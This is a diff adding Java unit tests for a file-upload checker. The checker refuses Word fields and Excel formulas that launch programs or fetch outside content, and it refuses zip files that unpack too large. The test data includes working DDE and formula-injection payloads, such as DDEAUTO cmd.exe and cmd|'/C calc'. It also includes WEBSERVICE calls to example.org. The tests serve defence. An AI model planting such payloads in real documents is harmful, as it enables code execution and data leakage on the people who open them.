@@ -21,6 +21,7 @@ import java.nio.file.Path;
 import java.util.stream.Stream;
 import org.greenplan.task.RuleViolation;
 import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
@@ -38,6 +39,129 @@ class InsideEvidenceTest {
 
     @TempDir
     private Path directory;
+
+    private static String field(String... instructions) {
+        StringBuilder runs = new StringBuilder("<w:r><w:fldChar w:fldCharType='begin'/></w:r>");
+        for (String instruction : instructions) {
+            runs.append("<w:r><w:instrText>").append(instruction).append("</w:instrText></w:r>");
+        }
+        return runs + "<w:r><w:fldChar w:fldCharType='separate'/><w:t>x</w:t><w:fldChar w:fldCharType='end'/></w:r>";
+    }
+
+    private static byte[] letter(String body) {
+        return docx("word/document.xml", "<w:document xmlns:w='w'><w:body>" + body + "</w:body></w:document>");
+    }
+
+    private static byte[] workbook(String formula) {
+        return xlsx("xl/worksheets/sheet1.xml", "<worksheet><c><f>" + formula + "</f><v>1</v></c></worksheet>");
+    }
+
+    private static byte[] xlsx(String... entries) {
+        return EvidenceFiles.office(
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", entries);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                " PAGE ",
+                "TOC \\o \"1-3\" \\h",
+                "DATE \\@ \"yyyy-MM-dd\"",
+                "MERGEFIELD name",
+                "HYPERLINK \"https://www.bjhr.gov.cn/\"",
+                "INCLUDEPICTURE \"C:\\\\Users\\\\a\\\\wps1.png\" \\* MERGEFORMATINET",
+                "INCLUDEPICTURE \\d \"file:///C:\\\\a.png\" \\* MERGEFORMAT"
+            })
+    @DisplayName("寻常的域不误拒")
+    void ordinaryFields_pass(String instruction) throws IOException {
+        assertThat(check("a.docx", letter(field(instruction)))).isNotEmpty();
+        assertThat(check("a.docx", letter("<w:fldSimple w:instr='" + instruction.replace("'", "") + "'/>")))
+                .isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"",
+                " dde Excel a.xlsx",
+                "INCLUDEPICTURE \"http://example.org/1.png\" \\d",
+                "INCLUDETEXT \"\\\\\\\\host\\\\share\\\\a.docx\"",
+                "IMPORT //host/share/a.png",
+                "LINK Word.Document.8 \"https://example.org/a.doc\" \\a",
+                "INCLUDEPICTURE file://host/share/1.png"
+            })
+    @DisplayName("打开时会读取外部内容或启动程序的域")
+    void fieldsThatLeadOutside_areRefused(String instruction) {
+        String first = instruction.substring(0, 3);
+        String code = "evidence-loads-from-outside";
+        assertRefused("a.docx", letter(field(first, instruction.substring(3))), code, "请断开链接");
+        assertRefused("a.docx", letter("<w:fldSimple w:instr='" + instruction + "'/>"), code, "请断开链接");
+        assertRefused(
+                "a.docx",
+                docx("word/header1.bin", "<?xml version='1.0'?><w:hdr xmlns:w='w'>" + field(instruction) + "</w:hdr>"),
+                code,
+                "请断开链接");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "SUM(A1:B2)",
+                "'甲|乙'!A1+Table1[a|b]",
+                "IF(A1=\"cmd|x\",\"WEBSERVICE(\",2)",
+                "_xlfn.DISPIMG(\"ID_1\",1)",
+                "HYPERLINK(\"https://www.bjhr.gov.cn/\",\"官网\")",
+                "[1]Sheet1!A1"
+            })
+    @DisplayName("寻常的公式不误拒")
+    void ordinaryFormulas_pass(String formula) throws IOException {
+        assertThat(check("a.xlsx", workbook(formula))).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "_xlfn.WEBSERVICE(\"http://example.org/\"&amp;A1)",
+                "cmd|'/C calc'!A0",
+                "1+'cmd'|'/C calc'!A0",
+                "_xlfn.IMAGE(\"http://example.org/1.png\")",
+                "RTD(\"a\",,\"b\")"
+            })
+    @DisplayName("打开时会读取外部内容或启动程序的公式")
+    void formulasThatLeadOutside_areRefused(String formula) {
+        assertRefused("a.xlsx", workbook(formula), "evidence-loads-from-outside", "打开时会");
+        String name =
+                "<workbook><definedNames><definedName name='a'>" + formula + "</definedName></definedNames></workbook>";
+        assertRefused("a.xlsx", xlsx("xl/workbook.xml", name), "evidence-loads-from-outside", "打开时会");
+    }
+
+    @ParameterizedTest
+    @CsvSource({"ddeLink, DDE", "oleLink, 对象"})
+    @DisplayName("与其他程序的链接；另一个工作簿留下的数值可以")
+    void linksToPrograms_areRefused(String link, String words) throws IOException {
+        String part = "xl/externalLinks/externalLink1.xml";
+        assertRefused(
+                "a.xlsx",
+                xlsx(part, "<externalLink><" + link + "/></externalLink>"),
+                "evidence-loads-from-outside",
+                words);
+        assertThat(check("a.xlsx", xlsx(part, "<externalLink><externalBook/></externalLink>")))
+                .isNotEmpty();
+    }
+
+    @Test
+    @DisplayName("解开后过大，无论里面是什么")
+    void whatUnfoldsWithoutEnd_isRefused() throws IOException {
+        String much = "a".repeat(11 * 1024 * 1024);
+        assertRefused("a.zip", zip("a.txt", much), "evidence-unpacks-too-large", "100倍");
+        assertRefused("a.docx", docx("word/media/a.bmp", much), "evidence-unpacks-too-large", "100倍");
+        assertThat(check("a.zip", zip("a.txt", "a".repeat(9 * 1024 * 1024)))).isNotEmpty();
+
+        Inspection inspection = new Inspection(detector);
+        inspection.unfolds(500L * 1024 * 1024);
+        assertThat(catchThrowableOfType(RuleViolation.class, () -> inspection.unfolds(1)))
+                .hasMessageContaining("超过500MB");
+    }
 
     static Stream<Arguments> good() {
         return Stream.of(
